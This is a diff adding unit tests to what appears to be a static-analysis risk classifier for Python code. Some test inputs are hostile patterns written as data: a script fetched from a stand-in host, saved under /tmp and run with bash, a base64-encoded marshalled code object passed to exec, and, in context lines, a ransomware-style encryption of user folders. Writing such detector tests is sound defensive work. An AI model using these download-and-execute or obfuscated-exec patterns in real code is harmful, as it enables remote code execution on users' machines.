@@ -162,6 +162,12 @@ TEST(AssessDataFlow, ARoundTripOfItsOwnObjectsIsNoPayload) {
   // The whole module namespace, or a statement that is no call of a name: still code.
   EXPECT_EQ(level(bench + "    return timeit.Timer(f'{name}(data)', globals=globals()).timeit(5)\n"), RiskLevel::high);
   EXPECT_EQ(level(bench + "    return timeit.Timer(f'{name}', globals={**IMPL}).timeit(5)\n"), RiskLevel::high);
+  // Several statements against a builtin, with the file imported as the setup: a benchmark.
+  const std::string vs = "from timeit import timeit\ndef msort(c):\n    return sorted(c)\ndata = [3, 1]\n";
+  EXPECT_EQ(level(vs + "for stmt in ('msort(data)', 'sorted(data)'):\n"
+                       "    timeit(stmt, setup='from __main__ import msort, data', number=3)\n"),
+            RiskLevel::low);
+  EXPECT_EQ(level(vs + "for stmt in ('msort(data)', 'sorted(data)'):\n    timeit(stmt, number=3)\n"), RiskLevel::high);
 }
 
 TEST(AssessDataFlow, HelpersDefaultsItemsAndFilesWrittenOnTheWay) {
@@ -562,4 +568,18 @@ TEST(AssessDataFlow, UserFoldersInAListHandedToAnEncryptingWalkerAreRansomware) 
   EXPECT_EQ(level(docs + "for p in Docs([home / 'Documents', home / 'Desktop']):\n    seal(p, f)\n"), RiskLevel::blocked);
   // The program's own build output sealed: files written and deleted, no user folder.
   EXPECT_EQ(level(docs + "for p in Docs(['dist', 'build']):\n    seal(p, f)\n"), RiskLevel::medium);
+}
+
+TEST(AssessDataFlow, ADownloadRunFromATemporaryDirectoryOrAMarshalledCodeObject) {
+  // Fetched, saved under /tmp and run by a shell: download and execute.
+  const std::string fetch = "import os, subprocess, requests\nr = requests.get('https://raw.example.com/i.sh')\n"
+                            "open('/tmp/i.sh', 'wb').write(r.content)\n";
+  EXPECT_EQ(level(fetch + "subprocess.run(['bash', '/tmp/i.sh'])\n"), RiskLevel::blocked);
+  // Saved and not run, or a script of its own run: no download is executed.
+  EXPECT_EQ(level(fetch + "print(os.path.getsize('/tmp/i.sh'))\n"), RiskLevel::medium);
+  EXPECT_EQ(level("import subprocess\nsubprocess.run(['bash', 'scripts/build.sh'])\n"), RiskLevel::medium);
+  // marshal makes code payloads, not caches: a marshalled code object decoded and run is one.
+  EXPECT_EQ(level("import base64, marshal\nblob = base64.b64encode(marshal.dumps(compile('print(1)', 'p', 'exec')))\n"
+                  "def run(e):\n    exec(marshal.loads(base64.b64decode(e)))\nrun(blob)\n"),
+            RiskLevel::blocked);
 }
